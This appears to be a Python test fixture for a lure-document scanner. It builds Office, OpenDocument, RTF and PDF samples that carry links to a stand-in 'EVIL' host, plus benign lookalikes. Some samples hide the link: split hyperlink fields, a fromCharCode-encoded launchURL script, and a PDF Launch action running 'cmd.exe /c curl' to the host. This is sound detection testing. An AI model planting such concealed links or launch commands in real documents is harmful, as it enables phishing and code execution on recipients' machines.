"""Documents as lures of 2025 and 2026 carry their link in them, and honest ones that look alike."""

from __future__ import annotations

import struct

from tests import scan_samples as samples
from tests.mail_files import packed
from tests.scan_lures import DRAWN, EVIL, OFFICE, pressed

_URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
WIDE = f"{EVIL}\0".encode("utf-16-le")
MIME_PAGE = f"MIME-Version: 1.0\nContent-Type: text/html\n\n<html><a href='{EVIL}'>Voir</a></html>".encode()
OPEN_DOCUMENT = {"META-INF/manifest__xml": b"<m/>"}


def old_text(said: bytes) -> bytes:
    return samples.ole({"WordDocument": b"\xec\xa5\xc1\x00" + bytes(600) + said})


def old_book(*monikers: bytes) -> bytes:
    linked = b"".join(_URL_MONIKER + struct.pack("<I", len(one)) + one for one in monikers)
    records = struct.pack("<HH", 0x809, 16) + bytes(16) + struct.pack("<HH", 0x0A, 0)
    return samples.ole({"Workbook": records + struct.pack("<HH", 0x1B8, len(linked)) + linked})


def old_slides(text: bytes) -> bytes:
    return samples.ole({"PowerPoint Document": struct.pack("<HHI", 0x10, 0xFBA, len(text)) + text})


def on_event(event: str, action: str) -> bytes:
    return samples.pdf(
        page=f"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 9 9]/AA<</{event}<<{action}>>>>>>]"
    )


LEADS: dict[str, bytes] = {
    "old text": old_text(f'\x13 HYPERLINK "{EVIL}" \x14Voir\x15'.encode()),
    "old text in letters of two bytes": old_text(f'\x13 HYPERLINK "{EVIL}" \x14'.encode("utf-16-le")),
    "old table": old_book("https://a.example\0".encode("utf-16-le"), WIDE + bytes(24)),
    "old slides": old_slides(WIDE[:-2]),
    "text in one XML": f"<?mso-application progid='Word.Document'?><w:x><w:hlink w:dest='{EVIL}'/></w:x>".encode(),
    "text in one XML, a field": (
        f"<?mso-application progid='Word.Document'?><w:instrText>HYPERLINK \"{EVIL}\"</w:instrText>".encode()
    ),
    "text in one XML of today, a field": (
        f"<pkg:package><w:instrText>HYPER</w:instrText><w:instrText>LINK \"{EVIL}\"</w:instrText>".encode()
    ),
    "table in one XML": f"<?mso-application progid='Excel.Sheet'?><ss:Cell ss:HRef='{EVIL}'/>".encode(),
    "OpenDocument in one XML": (
        f"<?xml version='1.0'?><office:document><text:a xlink:href='{EVIL}'>Voir</text:a>".encode("utf-16")
    ),
    "OpenDocument, a formula": packed(
        content__xml=f"<x table:formula='of:=HYPERLINK(&quot;{EVIL}&quot;;&quot;Voir&quot;)'/>".encode(),
        **OPEN_DOCUMENT,
    ),
    "OpenDocument, the head of a page": packed(
        content__xml=b"<x/>", styles__xml=f"<text:a xlink:href='{EVIL}'>Voir</text:a>".encode(), **OPEN_DOCUMENT
    ),
    "document that takes in a page": samples.docx(
        **{
            "word/_rels/document__xml__rels": f"<Relationship Type='{OFFICE}aFChunk' Target='x.html'/>".encode(),
            "word/x__html": f"<html><a href='{EVIL}'>Voir</a></html>".encode(),
        }
    ),
    "document that takes in a page of many parts": samples.docx(**{"word/x__mht": MIME_PAGE}),
    "document with a drawing": samples.docx(
        **{"word/media/a__svg": (DRAWN % f"<a xlink:href='{EVIL}'/>").encode()}
    ),
    "rtf, a field in pieces": (
        b"{\\rtf1{\\field{\\*\\fldinst {HYPER}{LINK} {\\b \"%s}{%s\"}}{\\fldrslt Voir}}}"
        % (EVIL[:12].encode(), EVIL[12:].encode())
    ),
    "pdf, a button when it is let go": on_event("U", f"/S/URI/URI({EVIL})"),
    "pdf, a button when the mouse is over it": on_event("E", f"/S/SubmitForm/F({EVIL})"),
    "pdf, a script in pieces": pressed(f"/S/JavaScript/JS(app.launchURL\\('{EVIL[:6]}'+'{EVIL[6:]}'\\))"),
    "pdf, a script in numbers": pressed(
        f"/S/JavaScript/JS(app.launchURL\\(String.fromCharCode\\({','.join(str(ord(one)) for one in EVIL)}\\)\\))"
    ),
    "pdf, a command": pressed(f"/S/Launch/Win<</F(cmd.exe)/P(/c curl {EVIL})>>"),
}  # fmt: skip
NOWHERE: dict[str, bytes] = {
    "old text that speaks of links": old_text(f'Ecrire HYPERLINK puis {EVIL} "ici"'.encode()),
    "old table with a place in itself": old_book("Feuil2!A1\0".encode("utf-16-le")),
    "old slides with a title": old_slides("Voir la d\u00e9lib\u00e9ration https".encode("utf-16-le")),
    "OpenDocument in one XML with a picture": (
        b"<office:document><draw:image xlink:href='Pictures/a.png'/><text:a xlink:href='#Annexe'>x</text:a>"
    ),
    "table with a formula": packed(
        content__xml=b"<x table:formula='of:=SUM([.A1:.A9])&amp;HYPERLINK([.A1])'/>", **OPEN_DOCUMENT
    ),
    "document with a coat of arms": samples.docx(
        **{"word/media/a__svg": (DRAWN % "<use xlink:href='#lys'/><script>x</script>").encode()}
    ),
    "pdf, a field that computes": on_event("K", "/S/JavaScript/JS(event.value = 'a' + 'b';)"),
    "pdf, a page beside it": pressed("/S/URI/URI(annexes/plan.pdf)"),
}
